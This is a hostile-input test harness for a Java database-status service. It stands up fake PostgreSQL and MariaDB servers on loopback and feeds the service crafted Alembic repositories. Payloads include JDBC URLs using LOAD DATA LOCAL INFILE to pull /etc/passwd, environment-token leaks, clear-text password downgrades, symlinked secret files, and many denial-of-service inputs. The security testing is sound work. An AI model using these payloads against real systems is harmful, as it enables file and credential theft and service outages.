#!/usr/bin/env python3
"""Attacks the jar as a hostile repository and as a hostile caller, and says what came of it.

    src/test/hostile/attack.py target/db-status.jar            all attacks, one after the other
    src/test/hostile/attack.py target/db-status.jar NAME ...   some of them
    src/test/hostile/attack.py target/db-status.jar --hour 60 --together 4
                                                               all of them again and again for 60 minutes, four at a time
    src/test/hostile/attack.py --container NAME ...            the jar of a container of buildah, in it, as its user (as root)

The service runs with the options of the image (src/main/docker/jvm.options). A good component is asked each second,
and its answer must stay right. The servers that the repositories name are fakes on loopback, in this file. The last line
of each attack tells the outcome: "held" or "GOT THROUGH", with what was seen. The exit status is 1 if any got through.
"""
import argparse
import collections
import gzip
import http.client
import io
import json
import os
import random
import shutil
import socket
import sqlite3
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import urllib.parse
import zipfile
import zlib

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..", ".."))
SECRET = "S3cr3tMarker"
TOKEN = "T0kenMarkerOfManyCharacters"
REPOSITORY = {}
SETTINGS = {}
CALLERS = {}
SETTLING = set()


def read_exactly(sock, count):
    data = b""
    while len(data) < count:
        part = sock.recv(count - len(data))
        if not part:
            raise EOFError
        data += part
    return data


class Server:
    """A listener on loopback that serves each client on a thread, and remembers all that clients said."""

    def __init__(self, serve):
        self.heard = []
        self.clients = 0
        self.serve = serve
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=200)
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            client, _ = self.listener.accept()
            self.clients += 1
            threading.Thread(target=self.one, args=(client,), daemon=True).start()

    def one(self, client):
        with client:
            try:
                client.settimeout(30)
                self.serve(self, client)
            except (OSError, EOFError, struct.error):
                pass

    def said(self, data):
        self.heard.append(data)

    def text(self):
        return b" ".join(self.heard).decode("latin-1")


# --- PostgreSQL ------------------------------------------------------------------------------------------------------

def pg(kind, body=b"", length=None):
    return kind + struct.pack(">I", (len(body) + 4) if length is None else length) + body


def pg_start(server, client):
    while True:
        length, code = struct.unpack(">II", read_exactly(client, 8))
        body = read_exactly(client, length - 8)
        if code in (80877103, 80877104):
            client.sendall(b"N")
            continue
        server.said(body)
        return


def pg_hello(client):
    client.sendall(pg(b"R", struct.pack(">I", 0))
                   + b"".join(pg(b"S", p) for p in (b"server_version\x0015.0\0", b"client_encoding\0UTF8\0",
                                                    b"integer_datetimes\0on\0", b"standard_conforming_strings\0on\0",
                                                    b"DateStyle\0ISO, MDY\0", b"TimeZone\0UTC\0"))
                   + pg(b"K", struct.pack(">II", 1, 1)) + pg(b"Z", b"I"))


def pg_rows(rows):
    """Answers every query by a column of text."""

    def serve(server, client):
        pg_start(server, client)
        pg_hello(client)
        while True:
            kind = read_exactly(client, 1)
            body = read_exactly(client, struct.unpack(">I", read_exactly(client, 4))[0] - 4)
            if kind == b"X":
                return
            if kind != b"S":
                continue
            client.sendall(pg(b"1") + pg(b"2") + pg(b"T", struct.pack(">H", 1) + b"version_num\0"
                                                     + struct.pack(">IHIhiH", 0, 0, 25, -1, -1, 0)))
            count = 0
            for row in rows(server):
                client.sendall(pg(b"D", struct.pack(">HI", 1, len(row)) + row))
                count += 1
            client.sendall(pg(b"C", b"SELECT %d\0" % count) + pg(b"Z", b"I"))

    return Server(serve)


def pg_clear_text():
    def serve(server, client):
        pg_start(server, client)
        client.sendall(pg(b"R", struct.pack(">I", 3)))
        while True:
            part = client.recv(4096)
            if not part:
                return
            server.said(part)

    return Server(serve)


def pg_announces(kind, length, after_login, body=b""):
    """Announces a message that is far longer than what comes."""

    def serve(server, client):
        pg_start(server, client)
        if after_login:
            pg_hello(client)
            read_exactly(client, 1)
            client.sendall(pg(b"1") + pg(b"2"))
        client.sendall(pg(kind, body, length))
        while client.recv(4096):
            pass

    return Server(serve)


def pg_floods(part, after_login):
    """Says the same small thing again and again, and never anything else."""

    def serve(server, client):
        pg_start(server, client)
        if after_login:
            pg_hello(client)
            read_exactly(client, 1)
            client.sendall(pg(b"1") + pg(b"2"))
        else:
            client.sendall(pg(b"R", struct.pack(">I", 0)))
        count = 0
        while True:
            client.sendall(b"".join(part(count + i) for i in range(500)))
            count += 500

    return Server(serve)


def pg_scram(iterations):
    def serve(server, client):
        pg_start(server, client)
        client.sendall(pg(b"R", struct.pack(">I", 10) + b"SCRAM-SHA-256\0\0"))
        read_exactly(client, 1)
        body = read_exactly(client, struct.unpack(">I", read_exactly(client, 4))[0] - 4)
        nonce = body.split(b"r=")[1]
        client.sendall(pg(b"R", struct.pack(">I", 11) + b"r=" + nonce + b"x,s=QSXCR+Q6sek8bf92,i=%d" % iterations))
        while client.recv(4096):
            pass

    return Server(serve)


def tls_record(kind, body):
    return bytes([kind]) + b"\x03\x03" + struct.pack(">H", len(body)) + body


# What a server may say in place of a TLS handshake, again and again.
TLS = {
    "fragments_of_16_megabytes": lambda i: tls_record(22, (b"\x02\xff\xff\xff" if i == 0 else b"") + b"\0" * 16000),
    "requests_for_a_handshake": lambda i: tls_record(22, b"\0\0\0\0" * 1000),
    "one_byte_fragments": lambda i: tls_record(22, b"\x02" if i == 0 else b"\0" if i == 1 else b"\x7f" if i == 2 else b"\0"),
    "warnings": lambda i: tls_record(21, b"\x01\x5a"),
    "changes_of_ciphers": lambda i: tls_record(20, b"\x01"),
    "application_data": lambda i: tls_record(23, b"x" * 16000),
    "empty_records": lambda i: tls_record(22, b""),
    "a_record_that_does_not_come": lambda i: b"\x16\x03\x03\x40\0" if i == 0 else b"",
}


def tls_flood(client, part):
    count = 0
    while True:
        data = b"".join(part(count + i) for i in range(100))
        if not data:
            time.sleep(20)
            return
        client.sendall(data)
        count += 100


def pg_tls(part):
    def serve(server, client):
        read_exactly(client, 8)
        client.sendall(b"S")
        tls_flood(client, part)

    return Server(serve)


def drips(first, byte):
    """A byte at a time, so that no time-out of a single read is ever reached."""

    def serve(server, client):
        read_exactly(client, 8) if first else None
        client.sendall(first)
        while True:
            client.sendall(byte)
            time.sleep(0.2)

    return Server(serve)


# --- MariaDB and MySQL -----------------------------------------------------------------------------------------------

def my_send(client, sequence, body):
    client.sendall(struct.pack("<I", len(body))[:3] + bytes([sequence & 255]) + body)


def my_read(client):
    header = read_exactly(client, 4)
    return header[3], read_exactly(client, struct.unpack("<I", header[:3] + b"\0")[0])


def my_greeting(client, plugin=b"mysql_native_password", capabilities=0xFFFFFFFF & ~0x0800 & ~0x20 & ~0x01000000):
    my_send(client, 0, b"\x0a5.5.5-10.11.0-MariaDB\0" + struct.pack("<I", 1) + b"12345678\0"
            + struct.pack("<H", capabilities & 0xFFFF) + b"\x2d\x02\0" + struct.pack("<H", capabilities >> 16 & 0xFFEF)
            + b"\x15" + b"\0" * 6 + struct.pack("<I", 0) + b"123456789012\0" + plugin + b"\0")


OK = b"\0\0\0\x02\0\0\0"


def my_server(answer, plugin=b"mysql_native_password", login=None):
    def serve(server, client):
        my_greeting(client, plugin)
        sequence, body = my_read(client)
        server.said(body)
        if login is not None:
            login(server, client, sequence)
        my_send(client, sequence + 1, OK)
        while True:
            sequence, body = my_read(client)
            server.said(body)
            answer(server, client, body)

    return Server(serve)


def my_local_infile(server, client, body):
    if b"LOCAL INFILE" in body.upper() or b"LOAD DATA" in body.upper():
        my_send(client, 1, b"\xfb/etc/passwd")
        sequence, data = my_read(client)
        server.said(b"FILE:" + data)
        my_send(client, sequence + 2, OK)
    else:
        my_send(client, 1, OK)


def my_clear_switch(server, client, sequence):
    my_send(client, sequence + 1, b"\xfemysql_clear_password\0\0")
    _, body = my_read(client)
    server.said(b"CLEAR:" + body)


def my_key_request(server, client, sequence):
    my_send(client, sequence + 1, b"\xfecaching_sha2_password\x0012345678901234567890\0")
    sequence, body = my_read(client)
    server.said(b"SCRAMBLE:" + body)
    my_send(client, sequence + 1, b"\x01\x04")
    sequence, body = my_read(client)
    server.said(b"KEY:" + body)


def my_rows(rows):
    def answer(server, client, body):
        if b"version_num" not in body:
            my_send(client, 1, OK)
            return
        column = b"\x03def\0\0\0\x0bversion_num\x0bversion_num\x0c\x2d\0" + struct.pack("<I", 255) + b"\xfd\0\0\0\0\0"
        out = [b"\x01", column, b"\xfe\0\0\x02\0"]
        sequence = 1
        for part in out:
            my_send(client, sequence, part)
            sequence += 1
        for row in rows(server):
            my_send(client, sequence, b"\xfd" + struct.pack("<I", len(row))[:3] + row)
            sequence += 1
        my_send(client, sequence, b"\xfe\0\0\x02\0")

    return my_server(answer)


def my_announces(server, client, body):
    if b"version_num" in body:
        client.sendall(b"\xff\xff\xff\x01")
        time.sleep(20)
    else:
        my_send(client, 1, OK)


def my_tls(part):
    def serve(server, client):
        my_greeting(client, capabilities=0xFFFFFFFF & ~0x20 & ~0x01000000)
        my_read(client)
        tls_flood(client, part)

    return Server(serve)


def my_columns(count):
    """Announces so many columns of a result, and sends them for ever."""

    def answer(server, client, body):
        if b"version_num" not in body:
            my_send(client, 1, OK)
            return
        my_send(client, 1, b"\xfe" + struct.pack("<Q", count))
        column = b"\x03def\0\0\0\x0bversion_num\x0bversion_num\x0c\x2d\0" + struct.pack("<I", 255) + b"\xfd\0\0\0\0\0"
        for i in range(2, 2_000_000):
            my_send(client, i, column)

    return my_server(answer)


def my_endless_packet(server, client, body):
    """A row in parts of 16 MiB, each of which says that another follows."""
    if b"version_num" not in body:
        my_send(client, 1, OK)
        return
    column = b"\x03def\0\0\0\x0bversion_num\x0bversion_num\x0c\x2d\0" + struct.pack("<I", 255) + b"\xfd\0\0\0\0\0"
    for i, part in enumerate([b"\x01", column, b"\xfe\0\0\x02\0"]):
        my_send(client, i + 1, part)
    for i in range(4, 100):
        my_send(client, i, b"\xfe\xff\xff\xff\x7f\0\0\0\0".ljust(0xFFFFFF, b"x"))


def my_endless_results(server, client, body):
    """An answer that is followed by another, for ever."""
    if b"version_num" not in body and b"SET" not in body.upper():
        my_send(client, 1, OK)
        return
    for i in range(1, 3_000_000):
        my_send(client, i, b"\0\0\0\x0a\0\0\0")


def my_endless_switch(server, client, sequence):
    while True:
        my_send(client, sequence + 1, b"\xfemysql_native_password\x0012345678901234567890\0")
        sequence, _ = my_read(client)


def my_endless_progress(server, client, body):
    for i in range(1, 3_000_000):
        my_send(client, i, b"\xff\xff\xff\x01\x01\x01\0\0\0\x04work")


# --- repositories ----------------------------------------------------------------------------------------------------

class Repository:
    def __init__(self, directory):
        self.directory = directory
        self.server = None
        self.refs = None
        self.text = self.all = ""

    def write(self, name, text):
        path = os.path.join(self.directory, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as out:
            out.write(text if isinstance(text, bytes) else text.encode())
        return path

    def ini(self, url=None, more=""):
        line = "" if url is None else "sqlalchemy.url = %s\n" % url.replace("%", "%%")
        self.write("alembic.ini", "[alembic]\nscript_location = m\n" + line + more)
        return self

    def script(self, name="a1", revision="'a1'", down="None", doc="One", more=""):
        self.write("m/versions/%s.py" % name, '"""%s\n\nRevision ID: x\n"""\nrevision = %s\ndown_revision = %s\n%s'
                   % (doc, revision, down, more))
        return self

    def database(self, *statements):
        path = os.path.join(self.directory, "d.db")
        connection = sqlite3.connect(path)
        for statement in statements:
            connection.execute(statement)
        connection.commit()
        connection.close()
        return self

    def stamped(self, row="a1"):
        return self.database("CREATE TABLE alembic_version (version_num TEXT)",
                             "INSERT INTO alembic_version VALUES ('%s')" % row.replace("'", "''"))


def attack(expect, times=1, settles=False, **settings):
    """
    An attack by a repository: makes it, and says by `expect(answer, repository)` what got through, or None. One that
    settles must leave the processors alone once it is answered.
    """

    def register(make):
        name = make.__name__.replace("_", "-")
        REPOSITORY[name] = (make, expect, times)
        if settles:
            SETTLING.add(name)
        SETTINGS[name] = settings
        return make

    return register


def reason(*wanted):
    def check(answer, repository):
        return None if answer.get("reason") in wanted else "reason %s, not %s" % (answer.get("reason"), "/".join(wanted))

    return check


def unheard(*words, wanted=()):
    def check(answer, repository):
        for word in words:
            if word in repository.server.text():
                return "the server heard %r" % word
        return reason(*wanted)(answer, repository) if wanted else None

    return check


def unseen(*words):
    def check(answer, repository):
        for word in words:
            if word in repository.all:
                return "the answers show %r" % word
        return None

    return check


URL = "DATABASE_URL_INVALID"


@attack(unheard("FILE:", "LOAD DATA", wanted=(URL,)))
def mariadb_local_infile(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FallowLocalInfile=true%%26initSql=LOAD DATA LOCAL INFILE '/etc/passwd'"
          " INTO TABLE t%%26sslMode=disable" % r.server.port).script()


@attack(unheard(TOKEN, wanted=(URL,)))
def mariadb_environment(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FcredentialType=ENV%%26userKey=DBSTATUS_SECURITY_TOKEN%%26pwdKey=PATH"
          % r.server.port).script()


@attack(unheard("DELETE", wanted=(URL,)))
def mariadb_initial_statement(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FinitSql=DELETE FROM alembic_version" % r.server.port).script()


@attack(unheard("CREATE DATABASE", wanted=(URL,)))
def mariadb_creates_a_database(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FcreateDatabaseIfNotExist=true" % r.server.port).script()


@attack(unheard(SECRET, "operator"), password=SECRET, username="operator")
def operators_password_in_clear_text(r):
    r.server = pg_clear_text()
    r.ini("postgresql://127.0.0.1:%d/d" % r.server.port).script()


@attack(unheard(SECRET, "KEY:\x02", "operator"), password=SECRET, username="operator")
def operators_password_by_a_retrieved_key(r):
    r.server = my_server(my_local_infile, login=my_key_request)
    r.ini("mysql://127.0.0.1:%d/d" % r.server.port).script()


@attack(unheard("CLEAR:"))
def mariadb_clear_text(r):
    r.server = my_server(my_local_infile, login=my_clear_switch)
    r.ini("mysql://own:own@127.0.0.1:%d/d" % r.server.port).script()


@attack(reason(URL))
def postgresql_endless_root_certificate(r):
    r.ini("postgresql://u:p@127.0.0.1:1/d?sslmode=verify-full&sslrootcert=/dev/zero").script()


@attack(reason(URL), times=40)
def postgresql_piped_root_certificate(r):
    pipe = os.path.join(r.directory, "pipe")
    os.mkfifo(pipe)
    r.server = Server(lambda server, client: (read_exactly(client, 8), client.sendall(b"S"), time.sleep(5)))
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=verify-full&sslrootcert=%s" % (r.server.port, pipe)).script()


@attack(reason(URL))
def postgresql_service_file(r):
    r.ini("postgresql://u:p@127.0.0.1:1/d?service=x").script()


@attack(reason(URL))
def mysql_certificate_file(r):
    r.ini("mysql://u:p@127.0.0.1:1/d?ssl_ca=/etc/passwd").script()


@attack(reason("CONFIG_INVALID"), times=40)
def sqlite_endless_view(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE VIEW alembic_version AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i FROM n)"
        " SELECT count(*) AS version_num FROM n")


@attack(reason("CONFIG_INVALID"), times=3)
def sqlite_view_of_400_megabytes(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE VIEW alembic_version AS SELECT hex(zeroblob(200000000)) AS version_num")


@attack(reason("CONFIG_INVALID"), times=3)
def sqlite_many_rows_of_60_kb(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE TABLE alembic_version (version_num TEXT)",
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9000) INSERT INTO alembic_version"
        " SELECT printf('%060000d', i) FROM n")


@attack(reason("CONFIG_INVALID", "CONNECTION_LOST"), times=3)
def sqlite_generated_column(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE TABLE alembic_version (a, version_num AS (hex(zeroblob(400000000))))",
        "INSERT INTO alembic_version (a) VALUES (1)")


@attack(reason("DATABASE_NOT_FOUND"), times=20)
def sqlite_piped_journal(r):
    r.ini("sqlite:///d.db").script().stamped()
    os.mkfifo(os.path.join(r.directory, "d.db-journal"))


@attack(reason(URL))
def sqlite_pragmas_in_the_file_name(r):
    r.ini("sqlite:///file:d.db%3Fjournal_mode=WAL").script().stamped()


@attack(reason("CONFIG_INVALID", "CONNECTION_LOST"), times=3)
def postgresql_many_rows_of_60_kb(r):
    r.server = pg_rows(lambda server: (b"%060000d" % i for i in range(9000)))
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()


@attack(reason("CONNECTION_LOST"), times=8)
def postgresql_row_of_4_mb_that_changes(r):
    r.server = pg_rows(lambda server: [b"%03900000d" % server.clients])
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()


@attack(reason("CONFIG_INVALID"), times=3)
def mysql_many_rows_of_60_kb(r):
    r.server = my_rows(lambda server: (b"%060000d" % i for i in range(9000)))
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


@attack(reason("CONFIG_INVALID", "QUERY_TIMEOUT", "CONNECTION_LOST"), times=3)
def mysql_announces_16_megabytes(r):
    r.server = my_server(my_announces)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


def announcing(name, kind, length, after_login, body=b""):
    def make(r):
        r.server = pg_announces(kind, length, after_login, body)
        r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()

    make.__name__ = name
    attack(lambda answer, r: an_error(answer, r), times=2)(make)


for letter in "RENSKZAvTDCGt":
    for phase in (False, True):
        announcing("postgresql_%s_of_a_gigabyte_%s_login" % (
            ("lower_" if letter.islower() else "") + letter.upper(), "after" if phase else "in"),
            letter.encode(), 0x5F000000, phase, b"\0\0\0\x0a" if letter == "R" else b"")


@attack(reason("SCRIPT_UNREADABLE"), times=3)
def script_of_4_mb(r):
    r.ini("sqlite:///d.db").stamped().script(more="a=1;" * 1_000_000 + "\n")


@attack(reason("SCRIPTS_NOT_FOUND", "SCRIPT_UNREADABLE"), times=2)
def many_scripts_of_one_mb(r):
    r.ini("sqlite:///d.db").stamped()
    for i in range(80):
        r.script("s%d" % i, "'s%d'" % i, "None" if i == 0 else "'s%d'" % (i - 1), more="a=1;" * 260_000 + "\n")


@attack(lambda answer, r: None if "status" in answer else str(answer))
def many_ids_in_many_scripts(r):
    r.ini("sqlite:///d.db").stamped()
    for i in range(80):
        r.script("s%d" % i, "'s%d'" % i, "(" + "".join("'%d'," % j for j in range(9000)) + ")")


@attack(lambda answer, r: None, times=3)
def env_of_one_mb(r):
    r.ini("sqlite:///d.db").stamped().script().write("m/env.py", "a=1;" * 260_000 + "\n")


@attack(lambda answer, r: None, times=2)
def modules_of_one_mb(r):
    r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped()
    for i in range(40):
        r.write("mod%d.py" % i, "a=1;" * 260_000 + "\nX%d = 'r%d'\n" % (i, i))
    r.script(more="".join("from mod%d import X%d\n" % (i, i) for i in range(40)))


@attack(reason("CONFIG_INVALID", "AT_HEAD"), times=2)
def slug_length_of_many_digits(r):
    r.ini("sqlite:///d.db", "truncate_slug_length = " + "1_1" * 100_000 + "\n").stamped().script()


@attack(lambda answer, r: None if answer["seconds"] < 14 else "took %.1f s" % answer["seconds"], times=4)
def walk_through_usr(r):
    r.ini("sqlite:///d.db", "version_locations = /usr\nrecursive_version_locations = true\n").stamped().script()


def walking(name, location, recursive):
    def make(r):
        r.ini("sqlite:///d.db", "version_locations = %s\nrecursive_version_locations = %s\n" % (location, recursive)).stamped().script()

    make.__name__ = name
    attack(within(14), times=4)(make)


@attack(unseen("E1sewhereMarker"))
def secret_of_another_place(r):
    other = tempfile.mkdtemp(prefix="elsewhere")
    with open(other + "/secrets_of_another.py", "w") as out:
        out.write("SECRET = 'E1sewhereMarker'\n")
    r.ini("sqlite:///d.db", "prepend_sys_path = %s\n" % other).stamped()
    r.script(more="from secrets_of_another import SECRET as revision\n")


@attack(unseen("E1sewhereMarker"))
def link_to_a_secret(r):
    other = tempfile.mkdtemp(prefix="elsewhere")
    with open(other + "/.env", "w") as out:
        out.write("SECRET = 'E1sewhereMarker'\n")
    r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped()
    os.symlink(other + "/.env", r.directory + "/linked.py")
    r.script(more="from linked import SECRET as revision\n")


@attack(lambda answer, r: None if r.server.clients == 0 else "the server was asked")
def server_of_a_project_that_is_not_trusted(r):
    r.server = pg_rows(lambda server: [b"a1"])
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()


for doubted in ("secret_of_another_place", "link_to_a_secret", "server_of_a_project_that_is_not_trusted"):
    SETTINGS[doubted.replace("_", "-")]["trusted"] = "false"


def an_error(answer, r):
    if answer.get("reason") == "INTERNAL_ERROR":
        return "no named error"
    return None if answer.get("status") == "ERROR" else "status %s" % answer.get("status")


def within(seconds):
    """An answer in this time, whatever it is, and no processor kept busy for long."""

    def check(answer, r):
        if "status" not in answer:
            return str(answer)[:300]
        return None if answer["seconds"] < seconds else "took %.1f s" % answer["seconds"]

    return check


for place in ("/usr/bin", "/usr/lib", "/usr/lib/python3/dist-packages"):
    walking("walk_through" + place.replace("/", "_").replace("-", "_"), place, "false")
    walking("walk_below" + place.replace("/", "_").replace("-", "_"), place, "true")


def flooding(name, part, after_login):
    def make(r):
        r.server = pg_floods(part, after_login)
        r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()

    make.__name__ = name
    attack(an_error, times=3)(make)


for after in (False, True):
    when = "after_login" if after else "in_login"
    flooding("postgresql_endless_notices_" + when, lambda i: pg(b"N", b"\0"), after)
    flooding("postgresql_endless_long_notices_" + when, lambda i: pg(b"N", b"SWARNING\0M" + b"x" * 20000 + b"\0\0"), after)
    flooding("postgresql_endless_parameters_" + when, lambda i: pg(b"S", b"p%d\0v\0" % i), after)
    flooding("postgresql_endless_notifications_" + when, lambda i: pg(b"A", b"\0\0\0\x01c\0p\0"), after)
    flooding("postgresql_endless_descriptions_" + when,
             lambda i: pg(b"T", struct.pack(">H", 1) + b"version_num\0" + struct.pack(">IHIhiH", 0, 0, 25, -1, -1, 0)), after)
    flooding("postgresql_endless_rows_without_columns_" + when, lambda i: pg(b"D", b"\0\0"), after)
    flooding("postgresql_endless_ends_" + when, lambda i: pg(b"C", b"SELECT 1\0"), after)


@attack(an_error, times=20, settles=True)
def postgresql_two_billion_iterations(r):
    r.server = pg_scram(2_000_000_000)
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()


def handshaking(name, server, url):
    def make(r):
        r.server = server()
        r.ini(url % r.server.port).script()

    make.__name__ = name
    attack(an_error, times=6, settles=True)(make)


for frames, part in TLS.items():
    handshaking("postgresql_tls_" + frames, lambda part=part: pg_tls(part), "postgresql://u:p@127.0.0.1:%d/d?sslmode=require")
    handshaking("mysql_tls_" + frames, lambda part=part: my_tls(part), "mysql://u:p@127.0.0.1:%d/d?ssl_mode=REQUIRED")

handshaking("postgresql_a_byte_at_a_time", lambda: drips(b"N", b"S"), "postgresql://u:p@127.0.0.1:%d/d?sslmode=prefer")
handshaking("mysql_a_byte_at_a_time", lambda: drips(b"", b"\x40"), "mysql://u:p@127.0.0.1:%d/d")


@attack(an_error, times=3)
def mysql_two_billion_columns(r):
    r.server = my_columns(2_000_000_000)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


@attack(an_error, times=3)
def mysql_endless_columns(r):
    r.server = my_columns(4_000_000)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


@attack(an_error, times=3)
def mysql_endless_row(r):
    r.server = my_server(my_endless_packet)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


@attack(an_error, times=3)
def mysql_endless_results(r):
    r.server = my_server(my_endless_results)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


@attack(an_error, times=3)
def mysql_endless_switches(r):
    r.server = my_server(my_local_infile, login=my_endless_switch)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


@attack(an_error, times=3)
def mysql_endless_progress(r):
    r.server = my_server(my_endless_progress)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


# --- what a project's files say --------------------------------------------------------------------------------------

def project(name, make, limit=14, times=2):
    """Answered within the service's answer timeout of ten seconds, and a little for a busy machine."""
    make.__name__ = name
    attack(within(limit), times=times, settles=True)(make)


def body(name, upgrade, before="", times=2):
    """A script whose upgrade() is followed at /schema."""

    def make(r):
        r.ini("sqlite:///d.db").stamped().script(more="from alembic import op\nimport sqlalchemy as sa\n%s\n\ndef upgrade():\n%s\n"
                                                 % (before, upgrade))

    project(name, make, times=times)


def value(name, expression):
    """An expression, at the top of a script and in its upgrade()."""

    def make(r):
        r.ini("sqlite:///d.db").stamped().script(
            more="from alembic import op\nX = %s\nbranch_labels = X\n\ndef upgrade():\n    y = %s\n    op.execute(str(y))\n"
                 "    op.create_table(X, y)\n" % (expression, expression))

    project("value_" + name, make)


value("of_a_gigabyte", '"x" * 10**9')
value("of_a_gigabyte_in_turns", "(" * 0 + '"x" * 90000 * 90000 * 90000')
value("list_of_a_billion", "[1] * 10**9")
value("nested_lists", "[[[[[1] * 1000] * 1000] * 1000] * 1000] * 1000")
value("comprehensions", "[a for a in range(10**6) for b in range(10**6) for c in range(10**6) if a == b == c]")
value("nested_comprehensions", "[[[[x for x in range(1000)] for y in range(1000)] for z in range(1000)] for w in range(1000)]")
value("range_of_a_billion", "list(range(10**9))")
value("power", "10**10**10")
value("power_of_many", "9**9**9**9")
value("shift", "1 << 10**10")
value("long_number", "9" * 450_000)
value("many_long_numbers", "[" + ("9" * 2_000 + ",") * 220 + "]")
value("product_of_long_numbers", "*".join(["9" * 4000] * 100))
value("percent_width", '"%999999999d" % 1')
value("format_width", 'f"{1:999999999}"')
value("format_call", '"{:>999999999}".format("a")')
value("format_index", '"{0[0][0][0]}".format([[[[1]]]])')
value("just", '"a".ljust(999999999)')
value("zfill", '"a".zfill(999999999)')
value("center", '"a".center(999999999, "x")')
value("expandtabs", r'"\t".expandtabs(999999999)')
value("replace", '("a" * 90000).replace("a", "b" * 90000)')
value("join", '("x" * 90000).join("y" * 90000)')
value("split", '("a," * 40000).split(",") * 1000')
value("regular_expression", '__import__("re").sub("(a+)+b", "c", "a" * 90000)')
value("nested_parentheses", "(" * 100_000 + "1" + ")" * 100_000)
value("nested_brackets", "[" * 100_000 + "]" * 100_000)
value("open_brackets", "[" * 400_000)
value("unary", "-" * 300_000 + "1")
value("nots", "not " * 100_000 + "True")
value("lambdas", "lambda: " * 50_000 + "1")
value("conditions", "1 if 1 else " * 30_000 + "2")
value("attributes", "a" + ".a" * 150_000)
value("subscripts", "a" + "[0]" * 100_000)
value("calls", "f" + "()" * 150_000)
value("comparisons", "1" + " < 1" * 75_000)
value("sums", "1" + "+1" * 150_000)
value("powers", "2" + "**2" * 100_000)
value("concatenations", '"a"' + ' "a"' * 100_000)
value("nested_f_strings", 'f"{' * 20_000 + "1" + '}"' * 20_000)
value("f_string_of_braces", 'f"' + "{1}" * 100_000 + '"')
value("nested_widths", 'f"{1:' + "{1:" * 20_000 + "}" * 20_000 + '}"')
value("escapes", '"' + "\\N{LATIN SMALL LETTER A}" * 15_000 + '"')
value("bytes", '"' + "\\x41" * 100_000 + '"')
value("walrus", "(a := " * 50_000 + "1" + ")" * 50_000)
value("commas", "1," * 200_000)
value("dictionary", "{" + ",".join("'k%d': %d" % (i, i) for i in range(25_000)) + "}")
value("stars", "[" + "*x," * 100_000 + "]")
value("slices", '"abc"[::' + "9" * 100_000 + "]")

body("body_loop_of_a_billion", "    for i in range(10**9):\n        op.execute('a')")
body("body_loop_without_end", "    while True:\n        op.create_table('t')")
body("body_unknown_operations", "    for i in range(4000000):\n        op.unknown(i, x)\n        op.execute(x + str(i))")
body("body_deep_loops", "".join("    " * (i + 1) + "for i%d in range(1000):\n" % i for i in range(90))
     + "    " * 91 + "op.create_table('t' + str(i1))")
body("body_deep_conditions", "".join("    " * (i + 1) + "if x%d:\n" % i for i in range(90)) + "    " * 91 + "op.drop_table('t')")
body("body_many_conditions", "".join("    if x%d:\n        op.create_table('t%d')\n    else:\n        op.drop_table('t%d')\n" % (i, i, i)
                                     for i in range(9000)))
body("body_very_deep_loops", "".join(" " * (i + 1) + "for i in x:\n" for i in range(1200)) + " " * 1201 + "pass")
body("body_many_operations", "".join("    op.create_table('t%d', sa.Column('c', sa.Integer))\n" % i for i in range(16_000)))
body("body_many_columns", "    op.create_table('t', " + "".join("sa.Column('c%d', sa.Integer)," % i for i in range(25_000)) + ")")
body("body_many_indexes", "    op.create_table('t', sa.Column('c'))\n" + "".join("    op.create_index('i%d', 't', ['c'])\n" % i for i in range(20_000)))
body("body_recursion", "    upgrade()")
body("body_recursion_in_two", "    f(0)\n    g(0)", "def f(x):\n    g(x)\n    g(x)\n\ndef g(x):\n    f(x)\n    f(x)\n")
body("body_calls_that_double", "    f0()", "".join("def f%d():\n    f%d()\n    f%d()\n\n" % (i, i + 1, i + 1) for i in range(60))
     + "def f60():\n    op.execute('a')\n")
body("body_strings_that_double", "    x = 'aaaaaaaaaa'\n" + "    x = x + x\n" * 200 + "    op.execute(x)")
body("body_lists_that_double", "    x = [1]\n" + "    x = x + x\n" * 200 + "    op.create_table('t', *x)")
body("body_lists_in_themselves", "    x = []\n    for i in range(100):\n        x.append(x)\n    op.execute(str(x))\n    op.create_table(*x)")
body("body_dictionaries_that_nest", "    x = {}\n" + "    x = {'a': x, 'b': x}\n" * 200 + "    op.execute(str(x))")
body("body_long_statement", "    op.execute('''" + "a" * 900_000 + "''')")
